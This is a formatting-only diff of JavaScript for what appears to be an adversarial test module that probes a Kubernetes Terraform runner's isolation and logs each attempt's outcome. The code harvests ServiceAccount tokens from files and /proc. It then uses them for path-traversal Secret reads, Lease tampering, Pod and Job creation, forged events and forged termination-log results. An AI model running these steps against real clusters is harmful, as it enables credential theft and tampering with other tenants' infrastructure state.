@@ -24,7 +24,9 @@ const serviceAccountTokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/t
 // Tests on a host point these elsewhere; a Job never sets them.
 const brokerKubeconfigPath = process.env.HOSTILE_BROKER_KUBECONFIG || "/captf/broker/kubeconfig";
 const terminationLog = process.env.HOSTILE_TERMINATION_LOG || "/dev/termination-log";
-const scanRoots = process.env.HOSTILE_SCAN_ROOTS ? process.env.HOSTILE_SCAN_ROOTS.split(":") : ["/var/run", "/run", "/captf", "/tmp", "/etc"];
+const scanRoots = process.env.HOSTILE_SCAN_ROOTS
+  ? process.env.HOSTILE_SCAN_ROOTS.split(":")
+  : ["/var/run", "/run", "/captf", "/tmp", "/etc"];
 /** Bounds of the filesystem scan: module code has minutes, not hours. */
 const scanLimits = { files: 20000, bytes: 256 * 1024, depth: 12 };
 const requestTimeoutMs = 5000;
@@ -52,7 +54,10 @@ function selfFromRunner() {
     const suffix = args.find((arg) => arg.startsWith("--backend-config=secret_suffix="));
     if (!suffix) continue;
     const object = args.find((arg) => arg.startsWith("--event-object="))?.split("/");
-    return { stateSuffix: suffix.slice("--backend-config=secret_suffix=".length), ...(object ? { name: object.at(-2), uid: object.at(-1) } : {}) };
+    return {
+      stateSuffix: suffix.slice("--backend-config=secret_suffix=".length),
+      ...(object ? { name: object.at(-2), uid: object.at(-1) } : {}),
+    };
   }
   return undefined;
 }
@@ -70,13 +75,18 @@ function jwtClaims(token) {
 function isServiceAccountToken(token) {
   const claims = jwtClaims(token);
   if (!claims || typeof claims !== "object") return false;
-  return String(claims.sub ?? "").startsWith("system:serviceaccount:") || "kubernetes.io" in claims || String(claims.iss ?? "").includes("kubernetes");
+  return (
+    String(claims.sub ?? "").startsWith("system:serviceaccount:") ||
+    "kubernetes.io" in claims ||
+    String(claims.iss ?? "").includes("kubernetes")
+  );
 }
 
 /** ServiceAccount tokens in a text, as "whose" descriptions (the subject), never the token. */
 function serviceAccountTokensIn(text) {
   const found = [];
-  for (const match of text.matchAll(jwtPattern)) if (isServiceAccountToken(match[0])) found.push({ token: match[0], sub: String(jwtClaims(match[0]).sub ?? "?") });
+  for (const match of text.matchAll(jwtPattern))
+    if (isServiceAccountToken(match[0])) found.push({ token: match[0], sub: String(jwtClaims(match[0]).sub ?? "?") });
   return found;
 }
 
@@ -115,7 +125,9 @@ const ownFiles = new Set([__filename, "/captf/runtime"]);
 
 /** A kubeconfig (JSON or YAML) that carries a credential: a token, a client key or an exec plugin. */
 function looksLikeKubeconfigWithCredentials(text) {
-  return /kind"?\s*:\s*"?Config\b/.test(text) && /clusters/.test(text) && /client-key-data|"token"\s*:|^\s*token:\s*\S|"?exec"?\s*:/m.test(text);
+  return (
+    /kind"?\s*:\s*"?Config\b/.test(text) && /clusters/.test(text) && /client-key-data|"token"\s*:|^\s*token:\s*\S|"?exec"?\s*:/m.test(text)
+  );
 }
 
 /** Pids this process can see in /proc. */
@@ -138,7 +150,12 @@ function brokerEndpoint() {
     const bearer = config.users?.[0]?.user?.token;
     const inPath = server ? new URL(server).pathname.replace(/^\/+|\/+$/g, "") : "";
     if (!server || !(bearer || inPath)) return { problem: `${brokerKubeconfigPath} names no server with a token` };
-    return { server, token: bearer, found: true, where: `port ${new URL(server).port}${inPath ? ", the token in the URL's path" : ""}${bearer ? ", a bearer token" : ""}` };
+    return {
+      server,
+      token: bearer,
+      found: true,
+      where: `port ${new URL(server).port}${inPath ? ", the token in the URL's path" : ""}${bearer ? ", a bearer token" : ""}`,
+    };
   } catch (error) {
     return { problem: `${brokerKubeconfigPath}: ${error.code ?? error.message}` };
   }
@@ -149,7 +166,13 @@ function inClusterServer() {
   let env = process.env;
   if (!env.KUBERNETES_SERVICE_HOST) {
     try {
-      env = Object.fromEntries(fs.readFileSync("/proc/1/environ", "utf8").split("\0").filter(Boolean).map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]));
+      env = Object.fromEntries(
+        fs
+          .readFileSync("/proc/1/environ", "utf8")
+          .split("\0")
+          .filter(Boolean)
+          .map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]),
+      );
     } catch {
       return undefined;
     }
@@ -176,7 +199,15 @@ function send(server, method, requestPath, { token, body } = {}) {
     if (payload) Object.assign(headers, { "content-type": "application/json", "content-length": payload.length });
     // The raw path after the server's own (the broker's carries its token), so dot segments and encodings reach it as written.
     const prefix = new URL(server).pathname.replace(/\/+$/, "");
-    const options = { method, host: url.hostname, port: url.port, path: `${prefix}${requestPath}`, headers, timeout: requestTimeoutMs, rejectUnauthorized: false };
+    const options = {
+      method,
+      host: url.hostname,
+      port: url.port,
+      path: `${prefix}${requestPath}`,
+      headers,
+      timeout: requestTimeoutMs,
+      rejectUnauthorized: false,
+    };
     const req = client.request(options, (res) => {
       const chunks = [];
       res.on("data", (chunk) => chunks.push(chunk));
@@ -209,7 +240,9 @@ function outcomeOfAnswer(answer, listed) {
     } catch {
       return { outcome: "error", detail: `${answer.status}, not a JSON list` };
     }
-    return names.includes(listed) ? { outcome: "succeeded", detail: `${answer.status}: the list holds ${listed}` } : { outcome: "refused", detail: `${answer.status}: the list (${names.length} items) does not hold ${listed}` };
+    return names.includes(listed)
+      ? { outcome: "succeeded", detail: `${answer.status}: the list holds ${listed}` }
+      : { outcome: "refused", detail: `${answer.status}: the list (${names.length} items) does not hold ${listed}` };
   }
   return { outcome: "succeeded", detail: `${answer.status}: passed authorization ${message}`.slice(0, 200) };
 }
@@ -219,16 +252,32 @@ function outcomeOfAnswer(answer, listed) {
 function credentialAttempts() {
   const attempts = [];
   const add = (attempt, via, target, outcome, detail) => attempts.push({ attempt, via, target, outcome, detail });
-  const summarize = (found) => found.map((entry) => `${entry.where} (${entry.sub})`).join(", ").slice(0, 300);
+  const summarize = (found) =>
+    found
+      .map((entry) => `${entry.where} (${entry.sub})`)
+      .join(", ")
+      .slice(0, 300);
 
   // The usual token path.
   const atTokenPath = [];
   try {
     const text = fs.readFileSync(serviceAccountTokenPath, "utf8");
     atTokenPath.push({ where: serviceAccountTokenPath, token: text.trim(), sub: String(jwtClaims(text.trim())?.sub ?? "?") });
-    add("read the ServiceAccount token path", "filesystem", "service-account-token", "succeeded", `${serviceAccountTokenPath}: ${text.length} bytes`);
+    add(
+      "read the ServiceAccount token path",
+      "filesystem",
+      "service-account-token",
+      "succeeded",
+      `${serviceAccountTokenPath}: ${text.length} bytes`,
+    );
   } catch (error) {
-    add("read the ServiceAccount token path", "filesystem", "service-account-token", "refused", `${serviceAccountTokenPath}: ${error.code ?? error.message}`);
+    add(
+      "read the ServiceAccount token path",
+      "filesystem",
+      "service-account-token",
+      "refused",
+      `${serviceAccountTokenPath}: ${error.code ?? error.message}`,
+    );
   }
 
   // Every readable file under the usual directories.
@@ -246,9 +295,21 @@ function credentialAttempts() {
       }
     }
   }
-  add(`scan ${scanRoots.join(", ")} for ServiceAccount tokens and kubeconfigs`, "filesystem", "service-account-token", found.length ? "succeeded" : "refused", found.length ? summarize(found) : `${scanned} readable files, none holds one`);
+  add(
+    `scan ${scanRoots.join(", ")} for ServiceAccount tokens and kubeconfigs`,
+    "filesystem",
+    "service-account-token",
+    found.length ? "succeeded" : "refused",
+    found.length ? summarize(found) : `${scanned} readable files, none holds one`,
+  );
   const broker = brokerEndpoint();
-  add("find the broker's per-run token", "filesystem", "broker-token", broker.found ? "succeeded" : "refused", broker.found ? `${brokerKubeconfigPath} (expected: valid only at this Job's broker, ${broker.where})` : broker.problem);
+  add(
+    "find the broker's per-run token",
+    "filesystem",
+    "broker-token",
+    broker.found ? "succeeded" : "refused",
+    broker.found ? `${brokerKubeconfigPath} (expected: valid only at this Job's broker, ${broker.where})` : broker.problem,
+  );
 
   // Other processes' environment, command lines and roots.
   const pids = visiblePids().filter((pid) => Number(pid) !== process.pid);
@@ -256,10 +317,18 @@ function credentialAttempts() {
   for (const pid of pids) {
     for (const file of ["environ", "cmdline"]) {
       const text = readSmall(`/proc/${pid}/${file}`);
-      if (text) for (const token of serviceAccountTokensIn(text.replace(/\0/g, "\n"))) fromProcesses.push({ where: `/proc/${pid}/${file}`, ...token });
+      if (text)
+        for (const token of serviceAccountTokensIn(text.replace(/\0/g, "\n")))
+          fromProcesses.push({ where: `/proc/${pid}/${file}`, ...token });
     }
   }
-  add(`read /proc/*/environ and cmdline of ${pids.length} other processes`, "environment", "service-account-token", fromProcesses.length ? "succeeded" : "refused", fromProcesses.length ? summarize(fromProcesses) : `${pids.length} processes, none holds one`);
+  add(
+    `read /proc/*/environ and cmdline of ${pids.length} other processes`,
+    "environment",
+    "service-account-token",
+    fromProcesses.length ? "succeeded" : "refused",
+    fromProcesses.length ? summarize(fromProcesses) : `${pids.length} processes, none holds one`,
+  );
 
   const rooted = [];
   for (const pid of pids) {
@@ -268,10 +337,24 @@ function credentialAttempts() {
       if (text) for (const token of serviceAccountTokensIn(text)) rooted.push({ where: `/proc/${pid}/root${relative}`, ...token });
     }
   }
-  add(`read the token path through /proc/*/root of ${pids.length} other processes`, "filesystem", "service-account-token", rooted.length ? "succeeded" : "refused", rooted.length ? summarize(rooted) : "none holds one");
+  add(
+    `read the token path through /proc/*/root of ${pids.length} other processes`,
+    "filesystem",
+    "service-account-token",
+    rooted.length ? "succeeded" : "refused",
+    rooted.length ? summarize(rooted) : "none holds one",
+  );
 
-  const own = Object.entries(process.env).flatMap(([name, value]) => serviceAccountTokensIn(String(value)).map((token) => ({ where: `$${name}`, ...token })));
-  add("look for a token in this process's environment", "environment", "service-account-token", own.length ? "succeeded" : "refused", own.length ? summarize(own) : `${Object.keys(process.env).length} variables, none holds one`);
+  const own = Object.entries(process.env).flatMap(([name, value]) =>
+    serviceAccountTokensIn(String(value)).map((token) => ({ where: `$${name}`, ...token })),
+  );
+  add(
+    "look for a token in this process's environment",
+    "environment",
+    "service-account-token",
+    own.length ? "succeeded" : "refused",
+    own.length ? summarize(own) : `${Object.keys(process.env).length} variables, none holds one`,
+  );
 
   // What the API attempts use directly: a token found anywhere, held in memory only.
   const stolen = [...atTokenPath, ...found, ...fromProcesses, ...rooted, ...own].find((entry) => entry.token)?.token;
@@ -289,7 +372,9 @@ function apiAttemptTable(targets, phase) {
   const secrets = `/api/v1/namespaces/${ns}/secrets`;
   const leases = `/apis/coordination.k8s.io/v1/namespaces/${ns}/leases`;
   const unique = `hostile-${phase.replace(/[^a-z0-9]/g, "")}-${process.pid}-${Date.now().toString(36)}`;
-  const forgedState = gzipSync(JSON.stringify({ version: 4, serial: 999, lineage: "hostile", outputs: {}, resources: [] })).toString("base64");
+  const forgedState = gzipSync(JSON.stringify({ version: 4, serial: 999, lineage: "hostile", outputs: {}, resources: [] })).toString(
+    "base64",
+  );
   const table = [];
   const readable = [
     ["kubeconfig-secret", targets.cluster && `${targets.cluster}-kubeconfig`],
@@ -302,7 +387,13 @@ function apiAttemptTable(targets, phase) {
     if (!name) continue;
     table.push({ attempt: `get Secret ${name}`, target, method: "GET", path: `${secrets}/${name}` });
     table.push({ attempt: `list Secrets for ${name}`, target, method: "GET", path: secrets, listed: name });
-    table.push({ attempt: `list Secrets labelled tfstate=true for ${name}`, target, method: "GET", path: `${secrets}?labelSelector=tfstate%3Dtrue`, listed: name });
+    table.push({
+      attempt: `list Secrets labelled tfstate=true for ${name}`,
+      target,
+      method: "GET",
+      path: `${secrets}?labelSelector=tfstate%3Dtrue`,
+      listed: name,
+    });
   }
   if (victimState) {
     const body = { apiVersion: "v1", kind: "Secret", metadata: { name: victimState, namespace: ns }, data: { tfstate: forgedState } };
@@ -312,37 +403,103 @@ function apiAttemptTable(targets, phase) {
     // Path tricks: a broker matching names loosely would let these through.
     if (targets.self?.stateSuffix) {
       const own = `tfstate-default-${targets.self.stateSuffix}`;
-      table.push({ attempt: `PUT ${victimState}'s body at own state's path`, target: "victim-state", method: "PUT", path: `${secrets}/${own}`, body });
-      table.push({ attempt: `get ${victimState} through a dot segment after own state`, target: "victim-state", method: "GET", path: `${secrets}/${own}/../${victimState}` });
-      table.push({ attempt: `get ${victimState} with an encoded slash`, target: "victim-state", method: "GET", path: `${secrets}/${own}%2F..%2F${victimState}` });
-      table.push({ attempt: `get ${victimState} as a part of own state`, target: "victim-state", method: "GET", path: `${secrets}/${own}-part-0/../../secrets/${victimState}` });
+      table.push({
+        attempt: `PUT ${victimState}'s body at own state's path`,
+        target: "victim-state",
+        method: "PUT",
+        path: `${secrets}/${own}`,
+        body,
+      });
+      table.push({
+        attempt: `get ${victimState} through a dot segment after own state`,
+        target: "victim-state",
+        method: "GET",
+        path: `${secrets}/${own}/../${victimState}`,
+      });
+      table.push({
+        attempt: `get ${victimState} with an encoded slash`,
+        target: "victim-state",
+        method: "GET",
+        path: `${secrets}/${own}%2F..%2F${victimState}`,
+      });
+      table.push({
+        attempt: `get ${victimState} as a part of own state`,
+        target: "victim-state",
+        method: "GET",
+        path: `${secrets}/${own}-part-0/../../secrets/${victimState}`,
+      });
     }
   }
   if (victimLock) {
-    const lease = { apiVersion: "coordination.k8s.io/v1", kind: "Lease", metadata: { name: victimLock, namespace: ns }, spec: { holderIdentity: "hostile-module" } };
-    table.push({ attempt: `replace (PUT) Lease ${victimLock}`, target: "victim-lock", method: "PUT", path: `${leases}/${victimLock}`, body: lease });
+    const lease = {
+      apiVersion: "coordination.k8s.io/v1",
+      kind: "Lease",
+      metadata: { name: victimLock, namespace: ns },
+      spec: { holderIdentity: "hostile-module" },
+    };
+    table.push({
+      attempt: `replace (PUT) Lease ${victimLock}`,
+      target: "victim-lock",
+      method: "PUT",
+      path: `${leases}/${victimLock}`,
+      body: lease,
+    });
     table.push({ attempt: `delete Lease ${victimLock}`, target: "victim-lock", method: "DELETE", path: `${leases}/${victimLock}` });
     table.push({ attempt: `create a Lease named ${victimLock}`, target: "victim-lock", method: "POST", path: leases, body: lease });
   }
   // An image no registry serves: were the create allowed, the Pod would never run.
   const container = { name: "hostile", image: "127.0.0.1:1/hostile:never", command: ["/hostile"] };
-  table.push({ attempt: `create Pod ${unique}`, target: "pod", method: "POST", path: `/api/v1/namespaces/${ns}/pods`, body: { apiVersion: "v1", kind: "Pod", metadata: { name: unique, namespace: ns }, spec: { containers: [container], restartPolicy: "Never" } } });
+  table.push({
+    attempt: `create Pod ${unique}`,
+    target: "pod",
+    method: "POST",
+    path: `/api/v1/namespaces/${ns}/pods`,
+    body: {
+      apiVersion: "v1",
+      kind: "Pod",
+      metadata: { name: unique, namespace: ns },
+      spec: { containers: [container], restartPolicy: "Never" },
+    },
+  });
   table.push({
     attempt: `create Job ${unique}`,
     target: "job",
     method: "POST",
     path: `/apis/batch/v1/namespaces/${ns}/jobs`,
-    body: { apiVersion: "batch/v1", kind: "Job", metadata: { name: unique, namespace: ns }, spec: { template: { spec: { containers: [container], restartPolicy: "Never" } } } },
+    body: {
+      apiVersion: "batch/v1",
+      kind: "Job",
+      metadata: { name: unique, namespace: ns },
+      spec: { template: { spec: { containers: [container], restartPolicy: "Never" } } },
+    },
   });
   if (victim.name) {
-    const regarding = { apiVersion: victim.apiVersion ?? "infrastructure.cluster.x-k8s.io/v1alpha1", kind: victim.kind ?? "TerraformMachine", namespace: ns, name: victim.name, uid: victim.uid };
+    const regarding = {
+      apiVersion: victim.apiVersion ?? "infrastructure.cluster.x-k8s.io/v1alpha1",
+      kind: victim.kind ?? "TerraformMachine",
+      namespace: ns,
+      name: victim.name,
+      uid: victim.uid,
+    };
     const eventTime = new Date().toISOString().replace(/\.(\d{3})Z$/, ".$1000Z");
     table.push({
       attempt: `post an event about ${regarding.kind} ${victim.name}`,
       target: "victim-event",
       method: "POST",
       path: `/apis/events.k8s.io/v1/namespaces/${ns}/events`,
-      body: { apiVersion: "events.k8s.io/v1", kind: "Event", metadata: { name: `${unique}.event`, namespace: ns }, eventTime, reportingController: "captf.io/runner", reportingInstance: unique, action: "Apply", reason: "Applied", type: "Normal", regarding, note: "hostile module: forged" },
+      body: {
+        apiVersion: "events.k8s.io/v1",
+        kind: "Event",
+        metadata: { name: `${unique}.event`, namespace: ns },
+        eventTime,
+        reportingController: "captf.io/runner",
+        reportingInstance: unique,
+        action: "Apply",
+        reason: "Applied",
+        type: "Normal",
+        regarding,
+        note: "hostile module: forged",
+      },
     });
   }
   return table;
@@ -351,7 +508,13 @@ function apiAttemptTable(targets, phase) {
 async function apiAttempts(targets, phase, stolenToken) {
   const attempts = [];
   if (!targets.namespace) {
-    attempts.push({ attempt: "reach the API server", via: "direct", target: "api", outcome: "error", detail: "no targets given (HOSTILE_TARGETS)" });
+    attempts.push({
+      attempt: "reach the API server",
+      via: "direct",
+      target: "api",
+      outcome: "error",
+      detail: "no targets given (HOSTILE_TARGETS)",
+    });
     return attempts;
   }
   const table = apiAttemptTable(targets, phase);
@@ -368,17 +531,36 @@ async function apiAttempts(targets, phase, stolenToken) {
         continue;
       }
       const answer = await send(channel.server, entry.method, entry.path, { token: channel.token, body: entry.body });
-      attempts.push({ attempt: entry.attempt, via: channel.via, target: entry.target, ...outcomeOfAnswer(answer, entry.listed), ...(channel.token && channel.via === "direct" ? { with: "a stolen ServiceAccount token" } : {}) });
+      attempts.push({
+        attempt: entry.attempt,
+        via: channel.via,
+        target: entry.target,
+        ...outcomeOfAnswer(answer, entry.listed),
+        ...(channel.token && channel.via === "direct" ? { with: "a stolen ServiceAccount token" } : {}),
+      });
     }
   }
   // The control: this object's own state through the broker must answer (200, or 404 before the first apply).
   const control = { attempt: "get own state Secret (control)", via: "broker", target: "own-state", control: true };
   if (!broker.found || !targets.self?.stateSuffix) {
-    attempts.push({ ...control, outcome: "error", detail: broker.problem ?? "this object's state suffix is not on the runner's command line" });
+    attempts.push({
+      ...control,
+      outcome: "error",
+      detail: broker.problem ?? "this object's state suffix is not on the runner's command line",
+    });
   } else {
-    const answer = await send(broker.server, "GET", `/api/v1/namespaces/${targets.namespace}/secrets/tfstate-default-${targets.self.stateSuffix}`, { token: broker.token });
+    const answer = await send(
+      broker.server,
+      "GET",
+      `/api/v1/namespaces/${targets.namespace}/secrets/tfstate-default-${targets.self.stateSuffix}`,
+      { token: broker.token },
+    );
     const reached = answer.status === 200 || answer.status === 404;
-    attempts.push({ ...control, outcome: reached ? "succeeded" : answer.error ? "error" : "refused", detail: answer.error ?? String(answer.status) });
+    attempts.push({
+      ...control,
+      outcome: reached ? "succeeded" : answer.error ? "error" : "refused",
+      detail: answer.error ?? String(answer.status),
+    });
   }
   return attempts;
 }
@@ -406,16 +588,48 @@ function forgeryAttempts(targets) {
   const attempts = [];
   try {
     fs.writeFileSync(terminationLog, document);
-    attempts.push({ attempt: "write a forged result to /dev/termination-log during apply", via: "filesystem", target: "result", observed: true, outcome: "error", detail: "written; whether the manager recorded it is read from its status" });
+    attempts.push({
+      attempt: "write a forged result to /dev/termination-log during apply",
+      via: "filesystem",
+      target: "result",
+      observed: true,
+      outcome: "error",
+      detail: "written; whether the manager recorded it is read from its status",
+    });
   } catch (error) {
-    attempts.push({ attempt: "write a forged result to /dev/termination-log during apply", via: "filesystem", target: "result", observed: true, outcome: "refused", detail: error.code ?? error.message });
+    attempts.push({
+      attempt: "write a forged result to /dev/termination-log during apply",
+      via: "filesystem",
+      target: "result",
+      observed: true,
+      outcome: "refused",
+      detail: error.code ?? error.message,
+    });
   }
   try {
-    const child = spawn(process.execPath, [__filename, "--late-writer"], { detached: true, stdio: "ignore", env: { HOSTILE_FORGED: document, HOSTILE_TERMINATION_LOG: terminationLog } });
+    const child = spawn(process.execPath, [__filename, "--late-writer"], {
+      detached: true,
+      stdio: "ignore",
+      env: { HOSTILE_FORGED: document, HOSTILE_TERMINATION_LOG: terminationLog },
+    });
     child.unref();
-    attempts.push({ attempt: "rewrite the forged result after the runner's own write", via: "filesystem", target: "result", observed: true, outcome: "error", detail: `writer pid ${child.pid} left running` });
+    attempts.push({
+      attempt: "rewrite the forged result after the runner's own write",
+      via: "filesystem",
+      target: "result",
+      observed: true,
+      outcome: "error",
+      detail: `writer pid ${child.pid} left running`,
+    });
   } catch (error) {
-    attempts.push({ attempt: "rewrite the forged result after the runner's own write", via: "filesystem", target: "result", observed: true, outcome: "refused", detail: error.message });
+    attempts.push({
+      attempt: "rewrite the forged result after the runner's own write",
+      via: "filesystem",
+      target: "result",
+      observed: true,
+      outcome: "refused",
+      detail: error.message,
+    });
   }
   return attempts;
 }
@@ -451,7 +665,14 @@ function lateWriter() {
 /** A local state whose output `attempts_json` is the report: the module reads it back as its output. */
 function writeReportState(file, report) {
   if (!file) return;
-  const state = { version: 4, terraform_version: "1.5.7", serial: 1, lineage: "hostile-module-report", outputs: { attempts_json: { value: JSON.stringify(report.attempts), type: "string" } }, resources: [] };
+  const state = {
+    version: 4,
+    terraform_version: "1.5.7",
+    serial: 1,
+    lineage: "hostile-module-report",
+    outputs: { attempts_json: { value: JSON.stringify(report.attempts), type: "string" } },
+    resources: [],
+  };
   fs.mkdirSync(path.dirname(file), { recursive: true });
   fs.writeFileSync(file, JSON.stringify(state));
 }
@@ -469,7 +690,14 @@ async function attack(phase) {
   const api = await apiAttempts(targets, phase, stolen);
   const forged = phase === "provisioner-apply" ? forgeryAttempts(targets) : [];
   const attempts = [...found, ...api, ...forged].map((entry) => ({ phase, ...entry }));
-  const report = { phase, object: targets.self?.name ?? null, pod: process.env.POD_NAME ?? null, pid: process.pid, seconds: (Date.now() - started) / 1000, attempts };
+  const report = {
+    phase,
+    object: targets.self?.name ?? null,
+    pod: process.env.POD_NAME ?? null,
+    pid: process.pid,
+    seconds: (Date.now() - started) / 1000,
+    attempts,
+  };
   return report;
 }
 
